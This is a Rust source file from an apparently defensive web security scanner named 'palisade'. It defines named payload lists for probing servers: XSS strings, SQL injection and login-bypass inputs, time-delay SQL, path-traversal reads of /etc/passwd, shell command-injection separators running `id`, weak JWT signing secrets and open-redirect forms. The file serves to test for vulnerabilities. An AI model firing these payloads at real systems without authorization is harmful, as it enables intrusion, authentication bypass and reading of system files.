//! Built-in payload lists, selected by name in a step's `payload` entries.
//!
//! The lists are short on purpose: each entry probes a distinct parser behaviour, so a
//! step fans out to a few dozen requests rather than thousands.

/// Names of the built-in lists, as written in test files.
pub const NAMES: [&str; 8] = [
    "XSS",
    "SQLI",
    "SQLI_AUTH_BYPASS",
    "SQLI_TIME",
    "PATH_TRAVERSAL",
    "COMMAND_INJECTION",
    "JWT_SECRETS",
    "OPEN_REDIRECT",
];

/// Reflected markup and script in the contexts a server may echo them into: element
/// content, attribute values, URLs and script strings.
const XSS: &[&str] = &[
    "<script>alert('palisade-xss')</script>",
    "<img src=x onerror=alert('palisade-xss')>",
    "<svg/onload=alert('palisade-xss')>",
    "\"><script>alert('palisade-xss')</script>",
    "'><img src=x onerror=alert('palisade-xss')>",
    "<iframe src=\"javascript:alert('palisade-xss')\"></iframe>",
    "<body onload=alert('palisade-xss')>",
    "<details open ontoggle=alert('palisade-xss')>",
    "javascript:alert('palisade-xss')",
    "</script><script>alert('palisade-xss')</script>",
    "<a href=\"javascript:alert('palisade-xss')\">x</a>",
    "<ScRiPt>alert('palisade-xss')</sCrIpT>",
];

/// Inputs that break out of a quoted or numeric SQL literal and so make a query that
/// concatenates input fail to parse or change its meaning.
const SQLI: &[&str] = &[
    "'",
    "\"",
    "')",
    "' OR '1'='1",
    "' OR 1=1--",
    "\" OR \"1\"=\"1",
    "1 OR 1=1",
    "1' ORDER BY 99--",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "1; SELECT 1--",
    "' AND 1=CAST('a' AS INTEGER)--",
    "`",
    "\\",
];

/// Credentials that turn a concatenated login query into one that matches any user.
const SQLI_AUTH_BYPASS: &[&str] = &[
    "' OR '1'='1",
    "' OR '1'='1'--",
    "' OR 1=1--",
    "admin'--",
    "admin' #",
    "' OR ''='",
    "\" OR \"\"=\"",
    "') OR ('1'='1",
    "' OR 1=1 LIMIT 1--",
];

/// Payloads that make the database wait two seconds, in the dialects of MySQL
/// (`SLEEP`), PostgreSQL (`pg_sleep`), SQL Server (`WAITFOR DELAY`) and Oracle
/// (`DBMS_PIPE.RECEIVE_MESSAGE`), for equality (`= '...'`) and pattern (`LIKE '%...%'`)
/// contexts: `OR` reaches the sleep when the comparison is false, `%' AND` when it is a
/// pattern that then matches every row. A response that takes about two seconds longer
/// than usual shows the input reached the query.
const SQLI_TIME: &[&str] = &[
    "' OR SLEEP(2)--",
    "%' AND SLEEP(2)--",
    "%' AND pg_sleep(2) IS NULL--",
    "1 OR SLEEP(2)",
    "' AND SLEEP(2) AND '1'='1",
    "'; SELECT pg_sleep(2)--",
    "' OR pg_sleep(2) IS NULL--",
    "1 OR pg_sleep(2) IS NULL",
    "'; WAITFOR DELAY '0:0:2'--",
    "1; WAITFOR DELAY '0:0:2'--",
    "' OR 1=DBMS_PIPE.RECEIVE_MESSAGE('a',2)--",
];

/// Relative paths that climb out of a served directory, plainly and encoded.
const PATH_TRAVERSAL: &[&str] = &[
    "../../../../../../etc/passwd",
    "../../../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "....//....//....//....//....//....//etc/passwd",
    "..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "../../../../../../etc/passwd%00.txt",
];

/// Shell separators and substitutions followed by `id`, whose output (`uid=...`) shows
/// that a shell ran the input.
const COMMAND_INJECTION: &[&str] =
    &["; id", "| id", "&& id", "|| id", "$(id)", "`id`", "\nid", "127.0.0.1; id", "127.0.0.1 | id", "127.0.0.1 && id"];

/// Secrets that people and frameworks often use to sign HMAC JWTs (HS256).
const JWT_SECRETS: &[&str] = &[
    "secret",
    "secret123",
    "password",
    "123456",
    "changeme",
    "jwt_secret",
    "jwtsecret",
    "your-256-bit-secret",
    "your_jwt_secret",
    "secretkey",
    "supersecret",
    "admin",
    "test",
    "key",
    "default",
    "qwerty",
    "letmein",
    "development",
    "s3cr3t",
    "mysecret",
];

/// Redirect targets on a host that the test owns in name only (`.invalid` never resolves),
/// written in the forms that naive checks miss.
const OPEN_REDIRECT: &[&str] = &[
    "https://palisade-redirect.invalid/",
    "//palisade-redirect.invalid/",
    "/\\palisade-redirect.invalid/",
    "https:palisade-redirect.invalid",
    "https://palisade-redirect.invalid%2f%2e%2e",
];

/// Returns a built-in list by name.
pub fn builtin(name: &str) -> Option<&'static [&'static str]> {
    match name {
        "XSS" => Some(XSS),
        "SQLI" => Some(SQLI),
        "SQLI_AUTH_BYPASS" => Some(SQLI_AUTH_BYPASS),
        "SQLI_TIME" => Some(SQLI_TIME),
        "PATH_TRAVERSAL" => Some(PATH_TRAVERSAL),
        "COMMAND_INJECTION" => Some(COMMAND_INJECTION),
        "JWT_SECRETS" => Some(JWT_SECRETS),
        "OPEN_REDIRECT" => Some(OPEN_REDIRECT),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_name_has_a_list() {
        for name in NAMES {
            let list = builtin(name).unwrap_or_else(|| panic!("no list for {name}"));
            assert!(!list.is_empty(), "{name} is empty");
        }
        assert_eq!(builtin("XSS_TYPO"), None);
    }

    #[test]
    fn lists_have_no_duplicates() {
        for name in NAMES {
            let list = builtin(name).unwrap();
            let unique: std::collections::HashSet<&&str> = list.iter().collect();
            assert_eq!(unique.len(), list.len(), "{name} has a duplicate");
        }
    }

    #[test]
    fn schema_names_match_lists() {
        let schema = crate::schema::json_schema();
        let names = &schema["$defs"]["BuiltinListName"]["enum"];
        let listed: Vec<&str> = names.as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
        assert_eq!(listed, NAMES.to_vec());
    }
}
